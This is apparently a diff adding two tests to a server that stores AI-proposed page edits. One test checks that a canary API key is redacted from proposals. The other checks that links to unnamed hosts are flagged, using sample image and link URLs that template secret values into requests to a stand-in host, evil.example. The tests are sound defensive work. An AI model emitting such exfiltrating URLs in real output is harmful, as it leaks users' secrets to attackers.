@@ -1,3 +1,4 @@
+import { randomUUID } from 'node:crypto';
 import fc from 'fast-check';
 import { afterAll, beforeAll, beforeEach, expect, it, vi } from 'vitest';
 import { ROOT, type LayoutDocument } from '#common/layout/document.ts';
@@ -5,6 +6,7 @@ import { neededFor } from '#common/layout/proposal/items.ts';
 import { validate } from '#common/layout/validate.ts';
 import { registry } from '#common/widgets/registry.ts';
 import { type FakeModel, startFakeModel } from '#server/developer/assistant/assistant/testing/fake-model.ts';
+import { proposals } from '#server/platform/db/schema/proposals.ts';
 import { sites } from '#server/platform/db/schema/sites.ts';
 import { meta, node, pageNode } from '#server/testing/layouts.ts';
 import type { World } from '#server/testing/world.ts';
@@ -15,11 +17,12 @@ import { asking, asksModel, countsOf, edits, forget, openAiWorld, set } from './
 
 vi.setConfig({ testTimeout: 90_000 });
 
+const KEY = `canary-${randomUUID()}`;
 let world: World;
 let model: FakeModel;
 beforeAll(async () => {
   model = await startFakeModel();
-  world = await openAiWorld(asksModel(model));
+  world = await openAiWorld({ ...asksModel(model), AI_API_KEY: KEY });
 });
 afterAll(async () => {
   await world.close();
@@ -126,4 +129,57 @@ it('a slow answer is told while it comes', async () => {
   }
   expect(events.map(({ event }) => event)).toEqual(['progress', 'progress', 'done']);
   expect(await countsOf(world)).toEqual([1, 1]);
+});
+
+it('what a server writes of its own key into an answer is hidden before it is kept or shown', async () => {
+  const escaped = KEY.replace('c', '\\u0063');
+  const answer = edits({ ...set(`Text ${KEY}`), label: `Label ${KEY}` }).replace('Better words', `Title ${escaped}`);
+  model.play([{ text: answer }]);
+  const { last } = await asking(world)({});
+  const [row] = await world.parts.db.select().from(proposals);
+  expect(row?.title).toMatch(/^Title \[hidden/);
+  expect(row?.items[0]?.label).toMatch(/^Label \[hidden/);
+  for (const kept of [JSON.stringify(row), JSON.stringify(last)]) expect(kept).not.toContain(KEY);
+});
+
+it('hosts that neither the page nor the prompt names are marked at their change', async () => {
+  const root = {
+    [ROOT]: pageNode(['b']),
+    b: node('Button', ROOT, { label: 'Buy', href: 'https://www.known.example/a' }),
+  };
+  const body = { type: 'layout' as const, pageKey: 'linked', root, meta, isNewRecord: true };
+  await world.call('POST v1/dashboard/setConfig', { as: world.a2, body });
+  const button = (href: string) => ({
+    label: href,
+    act: 'insert',
+    parent: ROOT,
+    block: { widget: 'Button', props: { label: 'Go', href } },
+  });
+  const image = { widget: 'Image', props: { src: 'https://evil.example/?k={{ api.x }}', alt: 'x' } };
+  const text = [{ text: 'Read', link: 'https://user@other.example:8443/x' }];
+  model.play([
+    {
+      text: edits(
+        button('https://known.example/b'),
+        button('https://asked.example/c'),
+        button('/here'),
+        { label: 'Picture', act: 'insert', parent: ROOT, block: image },
+        { label: 'Text', act: 'insert', parent: ROOT, block: { widget: 'Text', props: { text } } },
+        button('https://{{ api.host }}.evil.example/'),
+      ),
+    },
+  ]);
+  const prompt = 'Link to our shop (asked.example).';
+  const { last } = await asking(world)({ task: 'page', pageKey: 'linked', prompt });
+  const { proposal } = last!.data as { proposal: { id: string } };
+  const whole = await world.call('GET v1/proposals/:id', { as: world.a2, params: { id: proposal.id } });
+  const items = whole.body.proposal.items as { hosts?: string[] }[];
+  expect(items.map(({ hosts }) => hosts)).toEqual([
+    undefined,
+    undefined,
+    undefined,
+    ['evil.example'],
+    ['other.example'],
+    ['{{ api.host }}.evil.example'],
+  ]);
 });
